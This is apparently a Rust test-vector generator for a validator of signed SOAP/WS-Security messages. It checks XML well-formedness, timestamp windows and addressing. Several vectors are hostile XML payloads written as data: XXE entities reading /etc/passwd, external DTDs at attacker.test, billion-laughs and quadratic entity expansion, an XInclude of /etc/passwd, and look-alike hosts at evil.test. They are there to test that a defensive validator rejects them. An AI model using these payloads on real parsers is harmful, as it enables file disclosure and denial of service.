//! DA-01, DA-15 and DA-17: the message as XML, its timestamp, and to whom it is addressed.

use serde_json::json;
use test_vectors::DauthFile;

use super::message::*;
use super::names::*;
use super::proofs;
use super::signature::*;
use super::vector::*;
use super::xml::*;
use crate::world::NOW;

pub(crate) fn file() -> (&'static str, DauthFile) {
    let plain = [documents(), sizes(), timestamps(), addressing(), proofs::stray_signatures()]
        .into_iter()
        .flatten()
        .collect();
    let required = with("require_timestamp", json!(true));
    let mut groups = vec![
        group("contoso.com, whose partner is fabrikam.com", policy(), plain),
        group("contoso.com, which wants a timestamp", required, required_timestamps()),
        group("contoso.com, without skew", with("skew", json!(0)), timestamps_without_skew()),
    ];
    groups.extend(proofs::groups());
    ("dauth-message", super::vector::file(groups))
}

fn clear() -> Message {
    message([sha256().apply(assertion())])
}

fn documents() -> Vec<Vector> {
    let text = clear().sent();
    let bare = sha256().apply(assertion()).sent();
    let prolog = |prolog: &str| format!("{prolog}{text}");
    let inside = |from: &str, to: &str| {
        let changed = text.replacen(from, to, 1);
        assert!(changed != text, "{from} stands in the message");
        changed
    };
    let bad = |id: &str, comment: &str, message: String| {
        Vector::new(format!("da-01-{id}"), comment, message).hit(&["DA-01"])
    };
    let entities = |count: usize| {
        let mut doctype = "<!DOCTYPE x [<!ENTITY a0 \"lol\">".to_owned();
        for number in 1..count {
            let inner = format!("&a{};", number - 1).repeat(10);
            doctype.push_str(&format!("<!ENTITY a{number} \"{inner}\">"));
        }
        format!("{doctype}]>{}", text.replacen(EMAIL, &format!("&a{};", count - 1), 1))
    };
    let bytes = |id: &str, comment: &str, message: Vec<u8>| {
        Vector::new(format!("da-01-{id}"), comment, message).hit(&["DA-01"])
    };
    let latin = text.replacen("GetMailTips", "GetMailTips x=\"\u{1}\"", 1).into_bytes();
    let latin = latin.into_iter().map(|byte| if byte == 1 { 0xe9 } else { byte }).collect();
    let wide: Vec<u8> =
        std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    vec![
        bad("doctype", "a document type declaration", prolog("<!DOCTYPE x>")).flag("D5"),
        bad("doctype-external", "a document type of the network", {
            prolog("<!DOCTYPE x SYSTEM \"http://attacker.test/x.dtd\">")
        })
        .flag("D5"),
        bad("xxe", "an entity that is a file of the server", {
            let doctype = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>";
            format!("{doctype}{}", text.replacen(EMAIL, "&e;", 1))
        })
        .flag("D5"),
        bad("xxe-parameter", "a parameter entity of the network", {
            prolog("<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://attacker.test/\"> %e;]>")
        })
        .flag("D5"),
        bad("laughs", "entities that grow by ten each", entities(10)).flag("D5"),
        bad("quadratic", "a long entity many times", {
            let doctype = format!("<!DOCTYPE x [<!ENTITY e \"{}\">]>", "x".repeat(1000));
            format!("{doctype}{}", text.replacen(EMAIL, &"&e;".repeat(1000), 1))
        })
        .flag("D5"),
        bad("default-attribute", "a document type that gives the assertion an attribute", {
            let doctype = "<!DOCTYPE x [<!ATTLIST saml:Assertion Extra CDATA \"x\">]>";
            format!("{doctype}{bare}")
        })
        .flag("D7"),
        bad("doctype-bare", "a document type before an assertion alone", format!("<!DOCTYPE x []>{bare}"))
            .flag("D5"),
        bad("doctype-late", "a document type behind a comment", prolog("<!-- x --> <!DOCTYPE x>")).flag("D5"),
        bad("entity-unknown", "an entity that is not declared", inside(EMAIL, "&e;")).flag("D5"),
        bad("entity-html", "an entity of HTML", inside(EMAIL, "user&commat;fabrikam.com")).flag("D5"),
        bad(
            "pi",
            "a processing instruction before the envelope",
            prolog("<?xml-stylesheet href=\"x.xsl\"?>"),
        )
        .flag("D5"),
        bad("pi-inside", "a processing instruction in the header", {
            inside("<wsse:Security", "<?x y?><wsse:Security")
        })
        .flag("D4"),
        bad("pi-after", "a processing instruction behind the envelope", format!("{text}<?x?>")).flag("D4"),
        bad("declaration-late", "an XML declaration behind a space", prolog(" <?xml version=\"1.0\"?>")),
        bad("empty", "an empty message", String::new()),
        bad("white-space", "a message of white space", "\n".to_owned()),
        bad("text", "a message that is no XML", "GET / HTTP/1.1".to_owned()),
        bad("json", "a message in JSON", "{\"a\":1}".to_owned()),
        bad("truncated", "a message without its end", text[..text.len() - 9].to_owned()),
        bad("two-roots", "two envelopes", format!("{text}{text}")).flag("D1"),
        bad("text-after", "text behind the envelope", format!("{text}x")),
        bad("mismatch", "tags that do not match", inside("</wsse:Security>", "</wsse:security>")),
        bad("unclosed", "a tag that is not closed", inside("</wsa:ReplyTo>", "")),
        bad(
            "prefix-undeclared",
            "a prefix that is not declared",
            inside("<wsa:ReplyTo>", "<y:z/><wsa:ReplyTo>"),
        )
        .flag("D6"),
        bad("attribute-prefix-undeclared", "an attribute's prefix that is not declared", {
            inside("<wsa:ReplyTo>", "<wsa:ReplyTo y:z=\"1\">")
        })
        .flag("D6"),
        bad(
            "attribute-twice",
            "an attribute twice",
            inside("<wsa:ReplyTo>", "<wsa:ReplyTo a=\"1\" a=\"2\">"),
        ),
        bad("attribute-twice-prefixes", "an attribute twice, under two prefixes of one namespace", {
            inside("<wsa:ReplyTo>", "<wsa:ReplyTo xmlns:p=\"urn:x\" xmlns:q=\"urn:x\" p:a=\"1\" q:a=\"2\">")
        })
        .flag("D6"),
        bad("id-twice", "two AssertionID attributes", {
            inside("AssertionID=", "AssertionID=\"uuid-evil\" AssertionID=")
        })
        .flag("D1"),
        bad(
            "prefix-undone",
            "a prefix declared as nothing",
            inside("<wsa:ReplyTo>", "<wsa:ReplyTo xmlns:p=\"\">"),
        )
        .flag("D6"),
        bad("unquoted", "an attribute without quotes", inside("<wsa:ReplyTo>", "<wsa:ReplyTo a=1>")),
        bad("less-in-attribute", "a < in an attribute", inside("<wsa:ReplyTo>", "<wsa:ReplyTo a=\"<\">")),
        bad("ampersand", "an & that begins nothing", inside(EMAIL, "user&fabrikam.com")),
        bad("cdata-end", "the end of a CDATA section in text", inside(EMAIL, "user@fabrikam.com]]>")),
        bad(
            "comment-dashes",
            "two hyphens in a comment",
            inside("<wsa:ReplyTo>", "<!-- a -- b --><wsa:ReplyTo>"),
        ),
        bad("nul", "a NUL in a value", inside(EMAIL, "user@fabrikam.com\0.evil.test")).flag("D14"),
        bad(
            "nul-reference",
            "a reference to NUL in a value",
            inside(EMAIL, "user@fabrikam.com&#0;.evil.test"),
        )
        .flag("D14"),
        bad("control", "a control character", inside(EMAIL, "user@fabrikam.com\u{8}")).flag("D14"),
        bad(
            "control-reference",
            "a reference to a control character",
            inside(EMAIL, "user@fabrikam.com&#8;"),
        )
        .flag("D14"),
        bad("noncharacter", "a character that XML does not have", inside(EMAIL, "user@fabrikam.com\u{ffff}")),
        bad(
            "surrogate-reference",
            "a reference to half a character",
            inside(EMAIL, "user@fabrikam.com&#xD800;"),
        ),
        bytes("latin-1", "a byte that is not UTF-8", latin),
        bytes("utf-16", "a message in UTF-16", wide),
        bytes("overlong", "a letter in two bytes that needs one", {
            let at = text.find(EMAIL).expect("the address");
            [&text.as_bytes()[..at], b"\xc1\xb5", &text.as_bytes()[at + 1..]].concat()
        })
        .flag("D14"),
        bytes("utf-8-surrogate", "half a character in UTF-8", {
            let at = text.find(EMAIL).expect("the address");
            [&text.as_bytes()[..at], b"\xed\xa0\x80", &text.as_bytes()[at..]].concat()
        }),
        Vector::new("da-01-comment", "comments before and behind the envelope", {
            format!("<!-- x --><?xml?>{text}").replacen("<?xml?>", "", 1) + "<!-- y -->"
        })
        .near(&["DA-01"]),
        Vector::new("da-01-xinclude", "an inclusion that nobody follows, in the body", {
            let include =
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>";
            inside("</soap:Body>", &format!("{include}</soap:Body>"))
        })
        .flag("D5")
        .near(&["DA-01"]),
        Vector::new(
            "da-01-white-space-attributes",
            "tabs and line ends in an attribute that was signed with spaces",
            {
                let mut spaced = assertion();
                let method = "urn:example:a method";
                spaced.at(&["AuthenticationStatement"]).set(NONE, "AuthenticationMethod", method);
                let mut signed = sha256().apply(spaced);
                signed
                    .at(&["AuthenticationStatement"])
                    .spell("AuthenticationMethod", "urn:example:a\tmethod");
                signed.sent()
            },
        )
        .flag("D7")
        .near(&["DA-18"]),
        Vector::new("da-01-white-space-references", "a tab written as a reference stays a tab", {
            let mut spaced = assertion();
            spaced.at(&["AuthenticationStatement"]).set(
                NONE,
                "AuthenticationMethod",
                "urn:example:a\tmethod",
            );
            sha256().apply(spaced).sent()
        })
        .flag("D7")
        .near(&["DA-18"]),
    ]
}

/// The edges of what is read: 48 elements deep, 64 attributes, 32 declarations.
fn sizes() -> Vec<Vector> {
    let with_body = |body: Element| {
        let mut message = clear();
        message.body = message.body.child(body);
        message.sent()
    };
    // The envelope, the body and what it asks for are three.
    let deep = |depth: usize| (4..depth).fold(el(FOREIGN, "e"), |inner, _| el(FOREIGN, "e").child(inner));
    let wide =
        |count: usize| (0..count).fold(el(FOREIGN, "e"), |e, number| e.attr(&format!("a{number}"), "x"));
    let declared = |count: usize| {
        // The element's own prefix is the last of them.
        let declare =
            |e: Element, number: usize| e.declare_as(&format!("p{number}"), &format!("urn:x:{number}"));
        (1..count).fold(el(FOREIGN, "e"), declare)
    };
    let pair = |id: &str, comment: &str, body: &dyn Fn(usize) -> Element, max: usize| {
        let id = format!("da-01-{id}");
        [
            Vector::new(&id, format!("{comment}, as many as are read"), with_body(body(max)))
                .near(&["DA-01"]),
            Vector::new(
                format!("{id}-more"),
                format!("{comment}, one more than are read"),
                with_body(body(max + 1)),
            )
            .hit(&["DA-01"]),
        ]
    };
    let pairs = [
        pair("depth", "elements inside each other", &deep, 48),
        pair("attributes", "attributes of one element", &wide, 64),
        pair("namespaces", "declarations of one element", &declared, 32),
    ];
    pairs.into_iter().flatten().map(|vector| vector.flag("D5").flag("edge")).collect()
}

/// The message with another timestamp, or none.
fn timed(timestamp: Option<Element>) -> Message {
    let mut message = clear();
    message.security.remove(0);
    timestamp.into_iter().for_each(|timestamp| message.security.insert(0, timestamp));
    message
}

fn timestamps() -> Vec<Vector> {
    const SKEW: u64 = 300;
    let time = |id: &str, comment: &str, created: u64, expires: u64| {
        Vector::new(format!("da-15-{id}"), comment, timed(Some(timestamp(created, expires))).sent())
            .flag("D16")
    };
    let changed = |id: &str, comment: &str, change: &dyn Fn(&mut Element)| {
        let mut timestamp = timestamp(NOW - 10, NOW + 290);
        change(&mut timestamp);
        Vector::new(format!("da-15-{id}"), comment, timed(Some(timestamp)).sent())
            .flag("D16")
            .hit_first("DA-15")
    };
    let text = |id: &str, comment: &str, local: &'static str, text: &str| {
        changed(id, comment, &|timestamp| *timestamp = timestamp.clone().put(&[local], text))
    };
    let second = || {
        let mut message = clear();
        message.security.push(timestamp(NOW - 10, NOW + 290).attr_in(WSU, "Id", "_9"));
        message
    };
    vec![
        time("future", "created five minutes from now", NOW + SKEW, NOW + SKEW + 300)
            .flag("edge")
            .near(&["DA-15"]),
        time("future-more", "created a second later", NOW + SKEW + 1, NOW + SKEW + 301)
            .flag("edge")
            .hit(&["DA-15"]),
        time("expired", "expired a second less than five minutes ago", NOW - 599, NOW - SKEW + 1)
            .flag("edge")
            .near(&["DA-15"]),
        time("expired-more", "expired five minutes ago", NOW - 600, NOW - SKEW).flag("edge").hit(&["DA-15"]),
        time("long", "valid for five minutes and a second", NOW, NOW + 301)
            .flag("edge")
            .reports(&["DA-15"])
            .on("DA-15"),
        time("five-minutes", "valid for five minutes", NOW, NOW + 300).flag("edge").near(&["DA-15"]),
        time("day", "valid for a day", NOW, NOW + DAY).reports(&["DA-15"]).on("DA-15"),
        time("yesterday", "of yesterday", NOW - DAY, NOW - DAY + 300).flag("D10").hit(&["DA-15"]),
        time("backwards", "expired before it was created", NOW, NOW - 100).hit(&["DA-15"]),
        Vector::new("da-15-missing", "no timestamp", timed(None).sent())
            .flag("D16")
            .reports(&["DA-15"])
            .on("DA-15"),
        Vector::new("da-15-two", "two timestamps", second().sent()).flag("D16").hit_first("DA-15"),
        changed("no-created", "no Created", &|timestamp| timestamp.remove("Created")),
        changed("no-expires", "no Expires", &|timestamp| timestamp.remove("Expires")),
        changed("two-expires", "Expires twice", &|timestamp| {
            timestamp.append(el(WSU, "Expires").text(instant(NOW + DAY)));
        }),
        changed("foreign", "a foreign element inside", &|timestamp| timestamp.append(el(FOREIGN, "Extra"))),
        text("zone", "a time in another zone", "Created", "2025-11-24T16:00:00+00:00"),
        text("local", "a time without a zone", "Expires", "2025-11-24T16:04:00"),
        text("malformed", "a time that is none", "Expires", "soon"),
        text("date", "a day that there is not", "Created", "2025-11-31T16:00:00Z"),
        {
            let mut message = clear();
            let created = message.security[0].at(&["Created"]);
            created.push("<!--x-->", "");
            Vector::new("da-11-timestamp", "a comment inside Created", message.sent())
                .flag("D4")
                .hit_first("DA-11")
        },
    ]
}

fn required_timestamps() -> Vec<Vector> {
    let time = timestamp(NOW, NOW + 300);
    vec![
        Vector::new("da-15-required-missing", "no timestamp where there must be one", timed(None).sent())
            .hit(&["DA-15"]),
        Vector::new("da-15-required", "a timestamp where there must be one", timed(Some(time)).sent())
            .near(&["DA-15"]),
    ]
    .into_iter()
    .map(|vector| vector.flag("D16"))
    .collect()
}

fn timestamps_without_skew() -> Vec<Vector> {
    let time = |id: &str, comment: &str, created: u64, expires: u64| {
        Vector::new(format!("da-15-skewless-{id}"), comment, timed(Some(timestamp(created, expires))).sent())
    };
    vec![
        time("now", "created now", NOW, NOW + 300).near(&["DA-15"]),
        time("future", "created a second from now", NOW + 1, NOW + 300).hit(&["DA-15"]),
        time("last", "expires in a second", NOW - 1, NOW + 1).near(&["DA-15"]),
        time("over", "expires now", NOW - 1, NOW).hit(&["DA-15"]),
    ]
    .into_iter()
    .map(|vector| vector.flag("D16").flag("edge"))
    .collect()
}

fn addressing() -> Vec<Vector> {
    let sent_to = |id: &str, comment: &str, url: &str| {
        Vector::new(format!("da-17-{id}"), comment, clear().to(url).sent()).flag("D18")
    };
    let action = |action: &str| Message { action: Some(action.to_owned()), ..clear() };
    let operation = |body: Element| Message { body, ..clear() };
    let twice = |local: &str, text: &str| {
        let mut envelope = clear().envelope();
        envelope.at(&["Header"]).append(el(WSA, local).text(text));
        envelope.sent()
    };
    let at = |id: &str, comment: &str, path: &str| {
        Vector::new(format!("da-17-{id}"), comment, clear().sent()).flag("D18").endpoint(path)
    };
    let mut commented = clear();
    commented.to = commented.to.map(|to| to.comment("x"));
    vec![
        sent_to(
            "host",
            "a message to another host",
            "https://mail.fabrikam.com/EWS/Exchange.asmx/WSSecurity",
        )
        .hit(&["DA-17"]),
        sent_to("path", "a message to another path", "https://mail.contoso.com/EWS/Other.asmx/WSSecurity")
            .hit_first("DA-17"),
        sent_to(
            "path-shorter",
            "a message to the path without its suffix",
            "https://mail.contoso.com/EWS/Exchange.asmx",
        )
        .hit_first("DA-17"),
        sent_to("path-longer", "a message to a longer path", &format!("{EWS}/x")).hit_first("DA-17"),
        sent_to("suffix-host", "a host that begins like the own", {
            "https://mail.contoso.com.evil.test/EWS/Exchange.asmx/WSSecurity"
        })
        .hit(&["DA-17"]),
        sent_to("user", "the own host as a user name", {
            "https://mail.contoso.com@evil.test/EWS/Exchange.asmx/WSSecurity"
        })
        .hit_first("DA-17"),
        sent_to("port", "another port", "https://mail.contoso.com:8443/EWS/Exchange.asmx/WSSecurity")
            .hit(&["DA-17"]),
        sent_to("http", "a message without TLS", "http://mail.contoso.com/EWS/Exchange.asmx/WSSecurity")
            .hit_first("DA-17"),
        sent_to("anonymous", "the anonymous address", ANONYMOUS).hit_first("DA-17"),
        sent_to(
            "host-case",
            "the host in another letter case",
            "https://MAIL.contoso.com/EWS/Exchange.asmx/WSSecurity",
        )
        .near(&["DA-17"]),
        sent_to(
            "port-default",
            "the port that is usual",
            "https://mail.contoso.com:443/EWS/Exchange.asmx/WSSecurity",
        )
        .near(&["DA-17"]),
        sent_to(
            "path-case",
            "the path in upper case",
            "https://mail.contoso.com/EWS/EXCHANGE.ASMX/WSSECURITY",
        )
        .near(&["DA-17"]),
        Vector::new("da-17-to-twice", "two addresses, of which the first is the own", {
            twice("To", "https://mail.fabrikam.com/EWS/Exchange.asmx/WSSecurity")
        })
        .flag("D18")
        .hit_first("DA-17"),
        Vector::new("da-17-action-twice", "two actions, of which the first is right", {
            twice("Action", "http://schemas.microsoft.com/exchange/services/2006/messages/GetItem")
        })
        .flag("D18")
        .hit_first("DA-17"),
        Vector::new("da-11-to", "a comment inside the address", commented.sent())
            .flag("D4")
            .hit_first("DA-11"),
        Vector::new("da-17-action", "an action that the body does not ask for", {
            action("http://schemas.microsoft.com/exchange/services/2006/messages/GetItem").sent()
        })
        .flag("D18")
        .hit(&["DA-17"]),
        Vector::new("da-17-no-to", "a message that names no address", Message { to: None, ..clear() }.sent())
            .flag("D18")
            .reports(&["DA-17"])
            .on("DA-17"),
        Vector::new("da-17-body", "a body that asks for something else", {
            operation(el(MESSAGES, "DeleteItem")).sent()
        })
        .flag("D18")
        .hit(&["DA-17"]),
        at("endpoint", "sent to the endpoint that it names", "/EWS/Exchange.asmx/WSSecurity")
            .near(&["DA-17"]),
        at(
            "endpoint-case",
            "sent to the endpoint that it names, in another letter case",
            "/ews/exchange.asmx/wssecurity",
        )
        .near(&["DA-17"]),
        at(
            "endpoint-other",
            "sent to another endpoint than it names",
            "/autodiscover/autodiscover.svc/WSSecurity",
        )
        .hit_first("DA-17"),
        at("endpoint-shorter", "sent to the path without its suffix", "/EWS/Exchange.asmx")
            .hit_first("DA-17"),
    ]
}
